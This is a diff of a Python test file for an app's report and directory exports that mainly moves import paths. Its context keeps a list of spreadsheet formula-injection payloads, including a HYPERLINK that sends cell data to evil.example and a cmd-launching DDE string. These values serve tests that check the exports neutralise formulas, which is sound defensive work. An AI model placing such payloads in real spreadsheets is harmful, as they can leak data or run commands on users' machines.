@@ -22,8 +22,8 @@ from sqlmodel import Session
 from dondoc.clock import TZ
 from dondoc.config import Settings
 from dondoc.models import Assignment, Officer, Plan, StatusUpdate, Unit
-from dondoc.reports.sample import seed_sample
-from dondoc.services.reporting import build_snapshot
+from dondoc.reporting.sample import seed_sample
+from dondoc.reporting.compile import build_snapshot
 from tests.web.world import World
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
@@ -56,7 +56,7 @@ def poisoned_report(engine: Engine, settings: Settings) -> dict[str, Any]:
 
 
 def test_report_docx_literal_text_no_field_codes(poisoned_report: dict[str, Any], tmp_path: Path) -> None:
-    from dondoc.reports.docx_report import render_report_docx
+    from dondoc.reporting.docx_report import render_report_docx
 
     path = tmp_path / "r.docx"
     render_report_docx(poisoned_report, path)
@@ -74,7 +74,7 @@ def test_report_docx_literal_text_no_field_codes(poisoned_report: dict[str, Any]
 
 
 def test_report_annex_xlsx_neutralises_formulas(poisoned_report: dict[str, Any], tmp_path: Path) -> None:
-    from dondoc.reports.xlsx_report import render_report_xlsx
+    from dondoc.reporting.xlsx_report import render_report_xlsx
 
     path = tmp_path / "r.xlsx"
     render_report_xlsx(poisoned_report, path)
@@ -86,7 +86,7 @@ def test_report_annex_xlsx_neutralises_formulas(poisoned_report: dict[str, Any],
 
 
 def test_plan_export_xlsx_neutralises_formulas(engine: Engine, settings: Settings, tmp_path: Path) -> None:
-    from dondoc.services import plan_export
+    from dondoc.intake import export as plan_export
 
     with Session(engine, expire_on_commit=False) as s:
         ids = seed_sample(s)
@@ -104,7 +104,7 @@ def test_plan_export_xlsx_neutralises_formulas(engine: Engine, settings: Setting
 @pytest.mark.parametrize("fmt", ["xlsx", "csv"])
 def test_directory_export_neutralises_formulas(engine: Engine, settings: Settings, tmp_path: Path, fmt: str) -> None:
     from dondoc import clock
-    from dondoc.services.directory import export_directory, import_directory
+    from dondoc.directory.files import export_directory, import_directory
 
     src = tmp_path / "dir.yaml"
     src.write_text(
